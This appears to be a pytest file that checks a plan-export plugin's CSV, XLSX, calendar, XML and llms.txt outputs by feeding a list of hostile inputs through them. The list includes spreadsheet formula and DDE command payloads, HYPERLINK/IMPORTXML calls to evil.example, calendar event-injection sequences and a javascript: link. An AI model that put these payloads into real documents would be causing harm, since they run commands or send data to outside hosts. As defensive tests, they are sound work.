"""Texts that programs could run or stumble over come out of every export as texts."""

from __future__ import annotations

import io
import json
import re
import zipfile
from xml.etree import ElementTree

import pytest

from omp_plugin.compute.compiled import Compiled
from omp_plugin.export.cells import is_formula, plain
from omp_plugin.export.files import every_file
from omp_plugin.export.llms import llms_txt
from omp_plugin.export.portfolio import portfolio_files
from tests.export.reading import book_of, csv_of, events_of
from tests.helpers import compiled

PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uff1d1+1", "'=1+1",
    '=HYPERLINK("http://evil.example","Pay")', "=cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", '=IMPORTXML("http://evil.example","//a")',
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil", "x;RRULE:FREQ=DAILY", "\x00\x07\x1b[2J", "a\u202egnp.exe", "x\u2028y\x85z",
    "]]><evil/>&amp;<!--", '","=1+1","', "[x](javascript:alert(1)) <script>\n# evil",
]  # fmt: skip
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
PLAN = """\
omp: 1
title: {x}
organisation: {x}
owner: ann
period: 2026-07-01 to 2027-06-30
version: {x}
summary: {x}
tags: [{x}, {x}]
people: {{ann: {{name: {x}, role: {x}, email: {x}}}}}
market: {{segments: {{s: {{title: {x}, size: {x}, needs: [{x}]}}}}, facts: [{{claim: {x}, source: {x}}}]}}
swot: {{strengths: [{x}]}}
objectives: {{o: {{title: {x}, outcome: {x}}}}}
goals: {{g: {{title: {x}, objective: o, kpi: k, due: 2027-06-30, why: {x}}}}}
kpis: {{k: {{title: {x}, unit: {x}, target: 10, source: {x}, if_missed: {x}, actual: {{2026-09: 1}}}}}}
campaigns: {{c: {{title: {x}, goals: [g], owner: ann, message: {x}, channels: [{x}], audience: [s], budget: 100, delivers: {{k: 10}},
  tactics: {{t: {{title: {x}, channel: {x}, flights: [2026-10], budget: 50}}}}}}}}
tasks: {{a: {{title: {x}, campaign: c, owner: ann, notes: {x}, deadline: 2026-12-01}}, m: {{title: {x}, date: 2026-12-05}},
  r: {{title: {x}, repeat: weekly, start: 2026-10-05, finish: 2026-11-02}}}}
budget: {{lines: {{l: {{title: {x}, campaign: c, category: {x}, supplier: {x}, planned: 100}}}}}}
risks: {{r: {{title: {x}, likelihood: 3, impact: 3, response: {x}, due: 2026-12-01}}}}
decisions: {{d: {{title: {x}, why: {x}, due: 2026-12-01}}}}
reviews: {{v: {{title: {x}, cadence: weekly, day: mon, agenda: [{x}], log: [{{on: 2026-10-05, so_what: {x}, actions: {x}}}]}}}}
learning: {{w: {{assumption: {x}, impact: {x}}}}}
links: {{u: {{title: {x}, url: "https://example.com"}}}}
"""


def of_payload(payload: str) -> Compiled:
    result = compiled(PLAN.format(x=json.dumps(payload)))
    assert result.plan, result.problems
    return result


@pytest.fixture(scope="module", params=PAYLOADS, ids=lambda payload: json.dumps(payload)[:24])
def files(request: pytest.FixtureRequest) -> dict[str, bytes]:
    plan = of_payload(request.param)
    return {**every_file(plan), **portfolio_files([plan]), "llms.txt": llms_txt("Site", {"x": plan}, {"x": [(request.param, "x/")]}, []).encode()}


def test_no_control_characters_in_any_text(files: dict[str, bytes]) -> None:
    for name, content in files.items():
        if name.endswith(".csv"):
            cells = [cell for row in csv_of(content) for cell in row.values()]
            assert not CONTROL.search("".join(cells)), name
        elif not name.endswith(".xlsx"):
            assert not CONTROL.search(re.sub(r"\r?\n", "", content.decode())), name
    sheets = [*book_of(files["plan.xlsx"]), *book_of(files["portfolio.xlsx"])]
    assert not CONTROL.search("".join(str(cell) for sheet in sheets for row in sheet.iter_rows(values_only=True) for cell in row))


def test_no_cell_is_a_formula(files: dict[str, bytes]) -> None:
    seen = 0
    for sheet in (*book_of(files["plan.xlsx"]), *book_of(files["portfolio.xlsx"])):
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                assert cell.hyperlink is None
                if cell.data_type == "s" and is_formula(str(cell.value)):
                    assert cell.quotePrefix, cell.value
                    seen += 1
    sheets = []
    for name in ("plan.xlsx", "portfolio.xlsx"):
        with zipfile.ZipFile(io.BytesIO(files[name])) as archive:
            sheets += [archive.read(each) for each in archive.namelist() if each.startswith("xl/worksheets/")]
    assert not [sheet for sheet in sheets if b"<f>" in sheet or b"<f " in sheet]
    texts = [cell for name, content in files.items() if name.endswith(".csv") for row in csv_of(content) for cell in row.values()]
    quoted = [cell for cell in texts if cell.startswith("'")]
    assert not [cell for cell in texts if is_formula(cell) and not cell.startswith("'")]
    assert bool(quoted) == bool(seen)


def test_no_event_and_no_element_is_added(files: dict[str, bytes]) -> None:
    plain_plan = of_payload("plain")
    ours = {**every_file(plain_plan), **portfolio_files([plain_plan])}
    found, expected = events_of(files["calendar.ics"]), events_of(ours["calendar.ics"])
    assert {uid: sorted(event) for uid, event in found.items()} == {uid: sorted(event) for uid, event in expected.items()}
    tags = [[element.tag for element in ElementTree.fromstring(each["project.xml"]).iter()] for each in (files, ours)]
    assert tags[0] == tags[1]
    rows = {name: len(csv_of(content)) for name, content in files.items() if name.endswith(".csv")}
    assert rows == {name: len(csv_of(content)) for name, content in ours.items() if name.endswith(".csv")}
    lines = llms_txt("Site", {"x": of_payload("plain")}, {"x": [("x", "x/")]}, []).count("\n")
    assert files["llms.txt"].count(b"\n") == lines
    assert not re.search(rb"(?<!\\)\]\(javascript:", files["llms.txt"])


def test_formulas_are_told_from_texts() -> None:
    assert [each for each in map(plain, PAYLOADS[:14]) if not is_formula(each)] == []
    assert not any(map(is_formula, ["", "a=1", "1-2", "5%", "\u2212", "a@b.c"]))
